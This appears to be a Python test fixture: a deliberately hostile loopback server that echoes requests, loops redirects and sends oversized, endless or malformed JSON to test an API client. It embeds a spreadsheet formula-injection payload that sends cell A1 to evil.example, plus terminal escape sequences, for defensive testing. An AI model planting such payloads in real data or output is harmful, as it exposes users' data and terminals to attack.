"""A server that misbehaves on purpose, in both APIs' shapes, on loopback: it repeats the
request it got (URL, headers, body: the keys with them) in its errors, redirects elsewhere
or in circles, and answers bodies that are too deep, too big, endless, of the wrong shape,
or full of text that breaks terminals and spreadsheets. It runs on a thread of its own, so
that the command line (in this process or another) and the library reach it alike, and it
records every request it got."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

from aiohttp import web

from tests.serving import on_a_thread

CRYSTALROOF = "/customer-api/"
LABOR_MARKET = "/v1/labor-market-intelligence/"
# Text a spreadsheet would run, and that a terminal would obey.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CONTROLS = "\x1b[2J\x1b]0;pwned\x07\rdone"


@dataclass
class Behaviour:
    """What the server does with the next requests (changed by the tests as they go)."""

    mode: str = "ok"  # see Hostile.answer for each
    status: int = 500  # for mode "echo": the status that repeats the request
    times: int | None = None  # misbehave this many times, then answer "ok"
    location: str = ""  # for mode "redirect": where to (none: the URL asked)
    size: int = 0  # bytes, for "huge"
    redirect_status: int = 302
    body: bytes = b""  # for "raw": the body, with status and content_type
    content_type: str = "application/json"


@dataclass
class Seen:
    method: str
    path_qs: str
    headers: dict[str, str]
    body: str


@dataclass
class Hostile:
    """The running server: its URL, what it does, and what it was asked."""

    url: str = ""
    behaviour: Behaviour = field(default_factory=Behaviour)
    seen: list[Seen] = field(default_factory=list)
    bodies: dict[int, bytes] = field(default_factory=dict)

    def behave(self, mode: str, **settings: Any) -> None:
        self.behaviour = Behaviour(mode, **settings)

    async def handle(self, request: web.Request) -> web.StreamResponse:
        body = await request.text()
        self.seen.append(Seen(request.method, request.path_qs, dict(request.headers), body))
        behaviour = self.behaviour
        mode = behaviour.mode
        if behaviour.times is not None:
            if behaviour.times <= 0:
                mode = "ok"
            behaviour.times -= 1
        return await self.answer(mode, request, body)

    async def answer(self, mode: str, request: web.Request, body: str) -> web.StreamResponse:
        lmi = request.path.startswith(LABOR_MARKET)
        behaviour = self.behaviour
        if mode == "echo":  # the request repeated: its URL, headers and body
            said = f"{CONTROLS} bad request {request.method} {request.url}"
            said += f" {dict(request.headers)} {body}"
            error: Any = {"code": "BAD", "message": said} if lmi else said
            return web.json_response({"error": error}, status=behaviour.status)
        if mode == "redirect":  # to where it is told, or to the URL it was asked
            location = behaviour.location or str(request.url)
            return web.Response(status=behaviour.redirect_status, headers={"Location": location})
        if mode == "deep":
            return web.Response(text="[" * 200_000, content_type="application/json")
        if mode == "shape":  # JSON, but not what the API sends
            return web.json_response({"data": [1, 2, 3]} if not lmi else {"data": [1]})
        if mode == "huge":  # made once a size: many at once must not fill this process
            if behaviour.size not in self.bodies:
                blob = json.dumps({"data": {"blob": "x" * behaviour.size}}).encode()
                self.bodies[behaviour.size] = blob
            return web.Response(body=self.bodies[behaviour.size], content_type="application/json")
        if mode == "endless":
            response = web.StreamResponse(headers={"Content-Type": "application/json"})
            await response.prepare(request)
            await response.write(b'{"data": {"blob": "')
            chunk = b"x" * 65_536
            try:
                while True:  # until the client goes away
                    await response.write(chunk)
            except ConnectionError:
                return response
        if mode == "raw":  # these bytes, under this content type
            headers = {"Content-Type": behaviour.content_type}
            return web.Response(status=behaviour.status, body=behaviour.body, headers=headers)
        if mode == "values":  # well formed, with text that breaks terminals and sheets
            return web.json_response(_values(lmi, body))
        return web.json_response(_values(lmi, body, plain=True))


def _values(lmi: bool, body: str, *, plain: bool = False) -> dict[str, Any]:
    text = "ordinary" if plain else FORMULA
    if not lmi:
        group = {"Total": 120, "Change": -5, "link": text, "note": "x" if plain else CONTROLS}
        data: dict[str, Any] = {"residents": group}
        if not plain:
            data[FORMULA] = 1  # a column whose very name begins like a formula
        return {"data": data, "dataDate": "2021-03-21"}
    codes = json.loads(body).get("socCodes", []) if body else []
    occupations = [
        {"socCode": code, "title": text, "wage": -12.5, "note": CONTROLS if not plain else "x"}
        for code in codes
    ]
    return {"data": {"regionType": "national", "matchedOccupations": occupations}}


@contextmanager
def serving() -> Iterator[Hostile]:
    """The hostile server on a free loopback port, for as long as the block runs."""
    hostile = Hostile()
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", hostile.handle)
    with on_a_thread(app) as url:
        hostile.url = url
        yield hostile
